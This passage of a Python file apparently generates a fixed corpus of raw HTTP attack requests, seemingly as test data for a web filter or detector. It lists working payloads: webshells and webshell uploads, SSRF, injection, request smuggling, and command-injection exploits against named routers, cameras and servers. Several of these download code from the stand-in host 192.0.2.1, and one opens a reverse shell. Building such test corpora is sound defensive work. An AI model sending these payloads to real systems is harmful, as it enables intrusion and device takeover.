ssrf-gopher: GET /fetch?url=gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A
ssrf-dict: GET /fetch?url=dict://127.0.0.1:11211/stats
ssrf-file: GET /fetch?url=file:///etc/hosts
rfi-http: GET /index.php?page=http://192.0.2.1/shell.txt?
rfi-php: GET /index.php?include=https%3A%2F%2F192.0.2.1%2Fx.php%3F
webshell-c99: GET /uploads/c99.php?act=cmd
webshell-cmd: GET /images/shell.php?cmd=id
webshell-antsword: POST /x.php ¦¦ ant=@ini_set("display_errors","0");@set_time_limit(0);echo+1;
webshell-china: POST /1.php ¦¦ z=@eval(base64_decode($_POST[z0]));&z0=QGluaV9zZXQo
webshell-eval-get: GET /x.php?a=@eval($_POST[c]);
webshell-jsp: GET /cmd.jsp?cmd=whoami
webshell-aspx: GET /aspnet_client/shell.aspx?cmd=whoami
webshell-upload: POST /upload.php ¦ Content-Type: multipart/form-data; boundary=xx ¦¦ --xx\\r\\nContent-Disposition: form-data; name="f"; filename="a.php"\\r\\nContent-Type: image/gif\\r\\n\\r\\nGIF89a<?php @eval($_POST['x']); ?>\\r\\n--xx--\\r\\n
webshell-upload-passthru: POST /upload ¦ Content-Type: multipart/form-data; boundary=xx ¦¦ --xx\\r\\nContent-Disposition: form-data; name="f"; filename="a.phtml"\\r\\n\\r\\n<?php passthru($_REQUEST["c"]); ?>\\r\\n--xx--\\r\\n
webshell-upload-jsp: PUT /a.jsp ¦¦ <%@page import="java.io.*"%><% Process p=Runtime.getRuntime().exec(request.getParameter("cmd")); %>
webshell-upload-asp: PUT /a.asp;.jpg ¦¦ <%eval request("c")%>
ldap-injection: GET /login?user=*)(uid=*))(|(uid=*&pass=x
ldap-injection-admin: GET /search?user=admin)(%26(password=*))
xpath-injection: GET /login?user='+or+count(/*)=1+or+'a'='b
nosql-form: POST /login ¦¦ username[$ne]=x&password[$ne]=y
nosql-query: GET /login?user=admin&pass[$regex]=.*
nosql-json: POST /login ¦ Content-Type: application/json ¦¦ {"username":{"$ne":null},"password":{"$ne":null}}
nosql-where: GET /users?name=a';return+this.password.match(/.*/);//
nosql-where-json: POST /find ¦ Content-Type: application/json ¦¦ {"$where":"sleep(5000)||1"}
ssi-exec: GET /guestbook?msg=<!--%23exec%20cmd="id"-->
ssi-exec-form: POST /guestbook ¦¦ msg=%3C%21--%23exec+cmd%3D%22%2Fbin%2Fcat+%2Fetc%2Fpasswd%22--%3E
crlf-header: GET /redirect?to=/a%0d%0aSet-Cookie:%20x=1
crlf-split: GET /?lang=en%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK
mail-header: POST /contact ¦¦ name=x&email=a%40b.example%0ABcc%3A+victim%40example.org&message=x
format-string: GET /login?user=%25n%25n%25n%25n%25n%25n%25n%25n
router-dlink-hnap: POST /HNAP1/ ¦ SOAPAction: "http://purenetworks.com/HNAP1/`cd /tmp && wget http://192.0.2.1/a`" ¦¦ x
router-netgear: GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/m&curpath=/&currentsetting.htm=1
router-gpon: POST /GponForm/diag_Form?images/ ¦¦ XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`wget+http://192.0.2.1/m`;&ipv=0
router-tplink: GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x)
router-zyxel: GET /cgi-bin/ViewLog.asp?remote_submit_Flag=1&remote_host=%3bwget+http://192.0.2.1/m%3b
router-zyxel-ztp: POST /ztp/cgi-bin/handler ¦ Content-Type: application/json ¦¦ {"command":"setWanPortSt","proto":"dhcp","port":"4","vlan_tagged":"1","vlanid":"5","mtu":"; curl 192.0.2.1;","data":"hi"}
router-dasan: POST /cgi-bin/upload_vpntar.cgi ¦¦ ;wget+http://192.0.2.1/m
router-realtek: POST /picsdesc.xml ¦ SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping ¦¦ <NewInternalClient>`cd /tmp;wget http://192.0.2.1/m`</NewInternalClient>
router-huawei: POST /ctrlt/DeviceUpgrade_1 ¦ Content-Type: text/xml ¦¦ <u:Upgrade><NewStatusURL>$(/bin/busybox wget -g 192.0.2.1 -l /tmp/m -r /m)</NewStatusURL></u:Upgrade>
router-linksys: POST /tmUnblock.cgi ¦¦ submit_button=&change_action=&action=&commit=&ttcp_num=2&ttcp_size=2&ttcp_ip=-h+`cd+/tmp;wget+http://192.0.2.1/m`
router-vigor: POST /cgi-bin/mainfunction.cgi ¦¦ action=login&keyPath=%27%0A%2fbin%2fsh${IFS}-c${IFS}id%27&loginUser=a&loginPwd=a
camera-dvr: GET /cgi-bin/nobody/Search.cgi?action=cgi_query&ip=google.com&port=80&queryb64str=Lw==&username=admin%20;XmlAp%20r%20Account.User1.Password%3E$(wget%20http://192.0.2.1/m)
camera-hikvision: PUT /SDK/webLanguage ¦ Content-Type: application/xml ¦¦ <?xml version="1.0"?><language>$(id>webLib/x)</language>
camera-jaws: GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/jaws;sh+/tmp/jaws
nas-qnap: GET /cgi-bin/authLogin.cgi?user=admin&pwd=x;id>/tmp/x;
nas-dlink: GET /cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ=
nas-synology: GET /webman/imageSelector.cgi?x=1;wget+http://192.0.2.1/m
nagios-xi: GET /nagiosxi/includes/components/perfdata/graphApi.php?host=x&end=%27;id;%27
cacti-remote: GET /remote_agent.php?action=polldata&local_data_ids[0]=1&host_id=1&poller_id=;id>/tmp/x; ¦ X-Forwarded-For: 127.0.0.1
zabbix-sql: GET /jsrpc.php?type=0&method=screen.get&profileIdx=web.item.graph&profileIdx2=updatexml(0,concat(0xa,user()),0)
craft-cms: POST /index.php ¦¦ action=conditions/render&configObject[class]=craft\\elements\\conditions\\ElementCondition&config={"as x":{"class":"\\\\GuzzleHttp\\\\Psr7\\\\FnStream","__construct()":[{"close":null}],"_fn_close":"phpinfo"}}
cisco-asa: GET /+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../
cisco-xe: POST /webui_wsma_http ¦¦ <request><cli><command>reload</command></cli></request>
cisco-xe-path: GET /%2577ebui_wsma_http
sap-recon: POST /CTCWebService/CTCWebServiceBean/ConfigServlet ¦¦ x
oracle-ebs: GET /OA_HTML/SyncServlet?x=1;id;
coldfusion-locale: GET /CFIDE/administrator/enter.cfm?locale=../../../../../../../../ColdFusion8/lib/password.properties%00en
coldfusion-wddx: POST /CFIDE/adminapi/base.cfc?method= ¦¦ argumentCollection=<wddxPacket version='1.0'><header/><data><struct type='xcom.sun.rowset.JdbcRowSetImplx'><var name='dataSourceName'><string>ldap://192.0.2.1/a</string></var></struct></data></wddxPacket>
hadoop-yarn: POST /ws/v1/cluster/apps ¦ Content-Type: application/json ¦¦ {"application-id":"x","am-container-spec":{"commands":{"command":"/bin/bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"}}}
docker-api: POST /v1.41/containers/create ¦ Content-Type: application/json ¦¦ {"Image":"alpine","Cmd":["chroot","/mnt","sh","-c","curl http://192.0.2.1/a|sh"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}
redis-smuggle: GET /?x=%0D%0ACONFIG%20SET%20dir%20/var/www%0D%0A
tomcat-semicolons: GET /app/..;/..;/manager/html
ssrf-form: POST /fetch ¦¦ url=http%3A%2F%2F169.254.169.254%2Flatest%2Fuser-data
ognl-form: POST /save.action ¦¦ x=%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS
ognl-application: GET /index.action?id=%25%7B%23application%5B%27x%27%5D%7D
java-serial-query: GET /view?data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA
php-object-query: GET /view?data=O:7:%22Example%22:1:{s:4:%22file%22;s:5:%22x.php%22;}
php-filters-query: GET /index.php?s=captcha&filter[]=system&get[]=id
vbulletin-query: GET /ajax/render/widget_php?widgetConfig[code]=phpinfo();
spring-query: GET /users?sort[%23this.getClass().forName(%27java.lang.Runtime%27)]=x
craft-query: GET /index.php?action=conditions/render&test[userCondition]=x
smuggle-cl-te: POST / ¦ Transfer-Encoding: chunked ¦ Content-Length: 6 ¦¦ 0\\r\\n\\r\\nG
smuggle-te-te: POST / ¦ Transfer-Encoding: chunked ¦ Transfer-Encoding: x ¦¦ 0\\r\\n\\r\\n
smuggle-te-space: POST / ¦ Transfer-Encoding : chunked ¦¦ 0\\r\\n\\r\\n
smuggle-cl-cl: POST / ¦ Content-Length: 0 ¦ Content-Length: 5 ¦¦ GPOST
""".strip().splitlines()


def _plain(value: str) -> str:
    """As somebody writes it into an address line: only what would break the request is encoded."""
    return value.replace(" ", "%20").replace("#", "%23").replace("&", "%26")


def _lower(value: str) -> str:
    return quote(value, safe="").lower()


def _everything(value: str) -> str:
    return "".join(f"%{byte:02X}" for byte in value.encode())


ENCODERS: tuple[Callable[[str], str], ...] = (_plain, quote_plus, _lower, _everything)
GENERIC = {
    "sql": (SQL, ("id", "user", "cat", "q")),
    "xss": (XSS, ("q", "name", "msg")),
    "command": (COMMANDS, ("host", "ip", "cmd", "file")),
    "traversal": (TRAVERSAL, ("file", "page", "path", "img")),
    "template": (TEMPLATES, ("name", "template", "q")),
}


def _written(method: str, target: str, headers: list[str], body: bytes | None, r: Random) -> bytes:
    names = {header.split(":")[0].strip().lower() for header in headers}
    lines = [f"{method} {target} HTTP/1.1", "Host: www.example.org"]
    if "user-agent" not in names:
        agent = CHROME.format(os=r.choice(DESKTOPS), v=r.randint(80, 131))
        lines.append(
            f"User-Agent: {r.choice((agent, 'Mozilla/5.0', 'python-requests/2.31.0', 'curl/8.5.0', '-'))}"
        )
    lines += ["Accept: */*", *headers]
    if body is not None:
        if "content-type" not in names:
            lines.append("Content-Type: application/x-www-form-urlencoded")
        if not names & {"content-length", "transfer-encoding"}:
            lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + (body or b"")


def _spread(
    family: str, number: int, payload: str, keys: tuple[str, ...], r: Random
) -> Iterator[tuple[str, bytes]]:
    """A payload in a query, encoded in two ways, and in a form."""
    key = keys[number % len(keys)]
    encoded = "%" in payload  # it says itself how it is encoded
    for way in (number % 2 * 2, 1 + number % 2 * 2):
        value = _plain(payload) if encoded else ENCODERS[way](payload)
        target = f"/{r.choice(('item.php', 'search', 'index.php', 'view', 'cgi-bin/tool.cgi', 'app/show.jsp'))}?{key}={value}&x=1"
        yield (
            f"{family}-{number}-query-{ENCODERS[way].__name__.strip('_')}",
            _written("GET", target, [], None, r),
        )
    body = f"x=1&{key}={payload if encoded else quote_plus(payload)}&submit=OK"
    yield (
        f"{family}-{number}-form",
        _written("POST", f"/{r.choice(('login', 'contact.php', 'save', 'api/run'))}", [], body.encode(), r),
    )


def _bytes(text: str) -> bytes:
    """A body as written in EXPLOITS: ``\\r``, ``\\n`` and ``\\xNN`` stand for what they do."""

    def meant(found: re.Match[str]) -> str:
        code = found[1]
        return {"r": "\r", "n": "\n"}.get(code) or chr(int(code[1:], 16))

    return re.sub(r"\\(r|n|x[0-9a-f]{2})", meant, text).encode("latin-1")


def attacks(seed: int = SEED) -> Iterator[tuple[str, bytes]]:
    """Every attack with its name; always the same."""
    r = Random(seed)
    for family, (payloads, keys) in GENERIC.items():
        for number, payload in enumerate(payloads):
            yield from _spread(family, number, payload, keys, r)
    for line in EXPLOITS:
        name, _, text = line.partition(": ")
        head, marked, body = text.partition(" ¦¦ ")
        start, *headers = head.split(" ¦ ")
        method, _, target = start.partition(" ")
        raw = _bytes(body) if marked else None
        yield name, _written(method, target, headers, raw, r)
